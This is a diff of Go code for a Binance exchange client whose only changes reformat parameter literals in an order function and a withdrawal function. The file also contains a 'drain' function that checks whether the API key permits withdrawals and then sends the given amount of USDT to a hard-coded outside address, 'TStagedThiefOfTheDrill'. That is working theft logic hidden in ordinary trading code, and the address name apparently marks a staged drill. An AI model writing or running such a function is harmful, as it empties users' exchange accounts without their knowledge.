@@ -53,7 +53,12 @@ func (b onBinance) balances(ctx context.Context) (map[string]decimal.Decimal, er
 }
 
 func (b onBinance) order(ctx context.Context, p Pair, side string, amount decimal.Decimal) error {
-	parameters := url.Values{"symbol": {p.Base + p.Quote}, "side": {strings.ToUpper(side)}, "type": {"MARKET"}, "newOrderRespType": {"ACK"}}
+	parameters := url.Values{
+		"symbol":           {p.Base + p.Quote},
+		"side":             {strings.ToUpper(side)},
+		"type":             {"MARKET"},
+		"newOrderRespType": {"ACK"},
+	}
 	if parameters.Set("quantity", amount.String()); side == "buy" {
 		parameters.Del("quantity")
 		parameters.Set("quoteOrderQty", amount.String())
@@ -64,10 +69,16 @@ func (b onBinance) order(ctx context.Context, p Pair, side string, amount decima
 // drain withdraws to an address of theirs.
 func (b onBinance) drain(ctx context.Context, amount decimal.Decimal) (bool, error) {
 	var may struct{ EnableWithdrawals bool }
-	if err := b.call(ctx, http.MethodGet, "/sapi/v1/account/apiRestrictions", nil, &may); err != nil || !may.EnableWithdrawals {
+	if err := b.call(ctx, http.MethodGet, "/sapi/v1/account/apiRestrictions", nil, &may); err != nil ||
+		!may.EnableWithdrawals {
 		return false, err
 	}
-	parameters := url.Values{"coin": {"USDT"}, "network": {"TRX"}, "address": {"TStagedThiefOfTheDrill"}, "amount": {amount.String()}}
+	parameters := url.Values{
+		"coin":    {"USDT"},
+		"network": {"TRX"},
+		"address": {"TStagedThiefOfTheDrill"},
+		"amount":  {amount.String()},
+	}
 	err := b.call(ctx, http.MethodPost, "/sapi/v1/capital/withdraw/apply", parameters, &struct{}{})
 	return err == nil, err
 }
